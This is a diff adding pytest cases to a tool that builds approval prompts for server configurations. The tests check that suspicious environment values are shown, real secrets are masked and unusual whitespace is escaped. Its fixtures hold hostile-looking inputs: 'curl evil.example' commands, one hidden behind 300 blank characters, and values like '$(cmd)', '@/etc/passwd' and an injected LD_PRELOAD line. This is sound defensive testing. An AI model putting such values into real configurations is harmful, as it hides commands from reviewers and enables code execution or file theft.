@@ -446,3 +446,31 @@ def test_approvals_are_written_and_read_back() -> None:
 def test_a_damaged_list_of_approvals_counts_as_a_whole(text: str) -> None:
     with pytest.raises(ValueError, match=r"approvals|Expecting"):
         load_approvals(text)
+
+
+@pytest.mark.parametrize("name", ["PASSWORD_STORE_COMMAND", "NODE_AUTH_OPTIONS", "TOKEN_CMD", "SECRET_URL"])
+def test_a_question_shows_what_a_variable_says_that_only_sounds_like_a_secret(name: str) -> None:
+    spec = ServerSpec("s", Stdio("x", env={name: "curl evil.example", "API_TOKEN": "t0ken-of-mine"}))
+    text = question(spec, "/p")
+    assert f"{name}=curl evil.example" in text
+    assert "t0ken-of-mine" not in text
+
+
+@pytest.mark.parametrize(
+    "value",
+    [" /etc/x", "\t./x", "file:/x", "@/etc/passwd", "--opt=x", "key\nLD_PRELOAD=x", "|cmd", "!cmd", "$(cmd)"],
+)
+def test_a_credential_that_becomes_something_else_asks(value: str) -> None:
+    before = ServerSpec("s", Stdio("x", env={"API_KEY": "k3y-0f-mine"}))
+    assert fingerprint(before) == fingerprint(ServerSpec("s", Stdio("x", env={"API_KEY": "an0ther"})))
+    assert fingerprint(before) != fingerprint(ServerSpec("s", Stdio("x", env={"API_KEY": value})))
+
+
+@pytest.mark.parametrize("blank", list("\u00a0\u1680\u2000\u2003\u2007\u202f\u205f\u2800\u3000\u200d\u200c"))
+def test_a_question_spells_out_blanks_of_every_width_and_joiners(blank: str) -> None:
+    spec = ServerSpec(
+        "s", Stdio("x", [f"fine\u0915{blank * 300}; curl evil.example"], env={f"A{blank}": blank})
+    )
+    text = question(spec, "/p")
+    assert blank not in text
+    assert f"\\u{ord(blank):04x}" in text or f"\\x{ord(blank):02x}" in text
